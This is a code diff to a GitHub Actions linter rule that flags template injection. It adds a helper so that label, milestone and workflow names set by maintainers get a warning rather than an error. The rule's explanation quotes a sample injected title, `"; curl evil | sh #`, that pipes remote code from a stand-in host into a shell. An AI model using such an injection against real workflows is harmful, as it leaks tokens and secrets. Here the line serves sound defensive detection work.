@@ -6,7 +6,7 @@ rule! {
     code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
     peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
     summary: "Attacker-controlled values expanded into a shell script or github-script",
-    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` is free text too (high confidence when the workflow can be called, since a caller may pass on anything; medium when only people with write access can start it); `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
+    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) as a warning. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` is free text too (high confidence when the workflow can be called, since a caller may pass on anything; medium when only people with write access can start it); `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
     why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
     example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
     instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
@@ -31,6 +31,24 @@ const DANGEROUS_SUFFIXES: &[&str] = &[
     "description",
     "text",
 ];
+
+/// Fields of `github.event` that only people with triage or write access set: label and milestone
+/// names (wherever the event lists them), workflow names.
+fn maintainer_set(rest: &[&str]) -> bool {
+    let Some(&last) = rest.last() else { return false };
+    (rest
+        .first()
+        .is_some_and(|s| matches!(*s, "label" | "milestone" | "workflow_run" | "workflow"))
+        || (rest.contains(&"labels") && last == "name"))
+        && !matches!(last, "head_branch" | "display_title" | "message" | "email")
+        && !rest.contains(&"head_commit")
+}
+
+/// Whether a context path is one only maintainers set (see [`maintainer_set`]).
+fn set_by_maintainers(path: &[String]) -> bool {
+    let p: Vec<&str> = path.iter().map(String::as_str).collect();
+    matches!(p.as_slice(), ["github", "event", rest @ ..] if maintainer_set(rest))
+}
 
 /// How dangerous a context path is: `Some(High)`, `Some(Medium)`, or `None` when safe or unknown.
 pub fn injection_risk(path: &[String]) -> Option<Confidence> {
@@ -78,13 +96,7 @@ pub fn injection_risk(path: &[String]) -> Option<Confidence> {
                     // One of OWNER, MEMBER, COLLABORATOR, CONTRIBUTOR, FIRST_TIMER, NONE…
                     | "author_association"
             ) || (last == "name" && rest.len() >= 2 && matches!(rest[rest.len() - 2], "repo" | "repository"));
-            // Labels are created by those with triage access, wherever the event lists them.
-            let maintainer_set = (rest
-                .first()
-                .is_some_and(|s| matches!(*s, "label" | "milestone" | "workflow_run" | "workflow"))
-                || (rest.contains(&"labels") && last == "name"))
-                && !matches!(last, "head_branch" | "display_title" | "message" | "email")
-                && !rest.contains(&"head_commit");
+            let maintainer_set = maintainer_set(rest);
             if trusted_owner || safe_leaf || last.ends_with("_sha") {
                 None
             } else if maintainer_set {
@@ -189,6 +201,11 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                                     "`{}` is free text from whoever runs or calls the workflow and is expanded straight into `{what}:`",
                                     path.join(".")
                                 )
+                            } else if set_by_maintainers(path) {
+                                format!(
+                                    "`{}` is set by people with triage access and is expanded straight into `{what}:`",
+                                    path.join(".")
+                                )
                             } else {
                                 format!(
                                     "`{}` can be set by an outsider and is expanded straight into `{what}:`",
@@ -196,6 +213,11 @@ fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
                                 )
                             },
                         )
+                        .severity(if input.is_none() && set_by_maintainers(path) {
+                            shipshape_core::Severity::Warning
+                        } else {
+                            meta().severity
+                        })
                         .help("pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script")
                         .confidence(confidence)
                         .maybe_fix(fix),
